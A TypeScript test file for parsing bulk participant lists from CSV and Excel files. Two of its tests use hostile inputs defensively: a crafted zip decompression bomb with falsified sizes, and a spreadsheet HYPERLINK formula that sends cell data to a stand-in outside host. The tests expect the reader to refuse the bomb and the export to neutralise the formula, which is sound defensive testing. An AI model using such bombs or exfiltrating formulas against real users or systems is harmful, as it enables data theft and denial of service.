import { zipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import {
  rowOf,
  tableOfFile,
  tableOfText,
} from '../../../../../subgraphs/participants/registration/bulk/reading/read-table.js';
import { refusedFile } from '../../../../../subgraphs/participants/registration/bulk/refused-file.js';

const names = (text: string) => {
  const table = tableOfText(text);
  return table.lines.map(({ line, cells }) => {
    const { givenName, familyName, email } = rowOf(table, cells);
    return [line, givenName, familyName, email];
  });
};

describe('a list of people handed in', () => {
  test.each([
    ['commas', 'givenName,familyName,email\nAda,Ruiz,ada@example.org\n'],
    ['semicolons and a byte order mark', '\ufeffgivenName;familyName;email\r\nAda;Ruiz;ada@example.org\r\n'],
    ['tabs and old line ends', 'givenName\tfamilyName\temail\rAda\tRuiz\tada@example.org\r'],
    ['bars and no last line end', 'givenName|familyName|email\nAda|Ruiz|ada@example.org'],
    ['other columns, other order', 'Nr,E-mail address,Last name,First name\n1,ada@example.org,Ruiz,Ada\n'],
    ['French', 'Prénom;Nom de famille;Courriel\nAda;Ruiz;ada@example.org\n'],
    ['Spanish', 'Nombre,Apellidos,Correo electrónico\nAda,Ruiz,ada@example.org\n'],
    ['Russian', 'Имя;Фамилия;Эл. почта\nAda;Ruiz;ada@example.org\n'],
    ['Arabic', 'الاسم الأول,اسم العائلة,البريد الإلكتروني\nAda,Ruiz,ada@example.org\n'],
    ['Chinese', '名,姓,电子邮箱\nAda,Ruiz,ada@example.org\n'],
    ['quoted cells', '"given name","family name",email\n"Ada","Ruiz",ada@example.org\n'],
  ])('is read with %s', (_what, text) => {
    expect(names(text)).toEqual([[2, 'Ada', 'Ruiz', 'ada@example.org']]);
  });

  test('keeps the line on which each person begins, past empty lines and line ends within cells', () => {
    expect(names('familyName,functionTitle\nRuiz,"Head,\nof unit"\n\n,\nKimani,\n')).toEqual([
      [2, null, 'Ruiz', null],
      [6, null, 'Kimani', null],
    ]);
  });

  test.each([
    ['windows-1252', Buffer.from('familyName;email\nPeña;p@example.org\n', 'latin1')],
    ['UTF-16 with a mark', Buffer.from('\ufefffamilyName;email\nPeña;p@example.org\n', 'utf16le')],
    ['UTF-16 without one', Buffer.from('familyName;email\nPeña;p@example.org\n', 'utf16le')],
    ['UTF-8', Buffer.from('familyName;email\nPeña;p@example.org\n')],
  ])('is read from a file in %s', async (_encoding, bytes) => {
    const table = await tableOfFile(bytes);
    expect(rowOf(table, table.lines[0]!.cells)).toMatchObject({ familyName: 'Peña', email: 'p@example.org' });
  });

  test('is read from the first sheet of an Excel workbook', async () => {
    const bytes = await writeExcelFile([
      [{ value: 'Given name' }, { value: 'Family name' }, { value: 'Role' }],
      [{ value: 'Ada' }, { value: 'Ruiz' }, null],
      [null, null, null],
      [{ value: 'Juma' }, { value: 'Kimani' }, { value: 'EXPERT' }],
    ]).toBuffer();
    const table = await tableOfFile(bytes);
    expect(
      table.lines.map(({ line, cells }) => [line, rowOf(table, cells).familyName, rowOf(table, cells).role]),
    ).toEqual([
      [2, 'Ruiz', null],
      [4, 'Kimani', 'EXPERT'],
    ]);
  });

  test.each([
    ['no header', 'Ada,Ruiz\nJuma,Kimani\n', 'It reads: Ada, Ruiz.'],
    ['an empty text', '', 'It reads: nothing.'],
    ['a column twice', 'familyName,Nom,email\nRuiz,Ruiz,x\n', 'Two columns mean `familyName`'],
    ['a quotation mark left open', 'familyName,email\n"Ruiz,x\n', 'Line 2: a quotation mark opens here'],
  ])('with %s is refused, and says what to do', (_what, text, message) => {
    expect(() => tableOfText(text)).toThrow(message);
  });

  test.each([
    ['a damaged workbook', Buffer.from('PK\u0003\u0004 and then nothing'), 'The workbook cannot be read.'],
    ['a PDF', Buffer.from('%PDF-1.7'), 'is a PDF'],
    ['an empty file', Buffer.alloc(0), 'is empty'],
    ['a file beyond bounds', Buffer.alloc(5_000_000, 'x'), 'Hand it in in parts'],
  ])('that is %s is refused, and says what to do', async (_what, bytes, message) => {
    await expect(tableOfFile(bytes)).rejects.toThrow(message);
  });

  test('that unpacks beyond bounds is refused before it is unpacked', async () => {
    const entry = Buffer.alloc(46);
    entry.write('PK\u0001\u0002', 'latin1');
    entry.writeUInt32LE(0xf0000000, 24);
    await expect(tableOfFile(Buffer.concat([Buffer.from('PK\u0003\u0004'), entry]))).rejects.toThrow(
      'unpacks to more',
    );
  });

  test('that unpacks to more than it says is refused too', async () => {
    const bomb = Buffer.from(
      zipSync({ 'xl/worksheets/sheet1.xml': new Uint8Array(120 * 1024 * 1024) }, { level: 9 }),
    );
    const stated = Buffer.alloc(4);
    stated.writeUInt32LE(120 * 1024 * 1024);
    for (let at = bomb.indexOf(stated); at >= 0; at = bomb.indexOf(stated, at + 1))
      bomb.writeUInt32LE(100, at);
    await expect(tableOfFile(bomb)).rejects.toThrow('unpacks to more');
  });
});

describe('the file of refused rows', () => {
  const text = 'familyName;functionTitle;Nr\nRuiz;"Head; of unit";1\nKimani;;2\nSato;"the ""old"" one";3\n';

  test('has the refused lines as they came, and why', () => {
    const table = tableOfText(text);
    expect(
      refusedFile(
        table,
        new Map([
          [2, 'Too long.'],
          [4, 'Twice; see line 2.'],
        ]),
      ),
    ).toBe(
      'familyName;functionTitle;Nr;problem\r\nRuiz;"Head; of unit";1;Too long.\r\nSato;"the ""old"" one";3;"Twice; see line 2."\r\n',
    );
    expect(refusedFile(table, new Map())).toBeNull();
  });

  test('gives a spreadsheet nothing to run, and comes back in as it was', () => {
    const formula = '=HYPERLINK("https://elsewhere.example?"&A1)';
    const list = tableOfText(
      `familyName,givenName,functionTitle\nMoreno,-Ada,"${formula.replaceAll('"', '""')}"\n`,
    );
    const file = refusedFile(list, new Map([[2, 'Mend it.']]))!;
    expect(file.split('\r\n')[1]).toBe(`Moreno,'-Ada,"'${formula.replaceAll('"', '""')}",Mend it.`);
    const again = tableOfText(file);
    expect(rowOf(again, again.lines[0]!.cells)).toMatchObject({ givenName: '-Ada', functionTitle: formula });
  });

  test('handed in again says this time’s reasons only', () => {
    const first = refusedFile(
      tableOfText(text),
      new Map([
        [2, 'First.'],
        [3, 'First.'],
      ]),
    )!;
    expect(refusedFile(tableOfText(first), new Map([[3, 'Second.']]))).toBe(
      'familyName;functionTitle;Nr;problem\r\nKimani;;2;Second.\r\n',
    );
  });
});
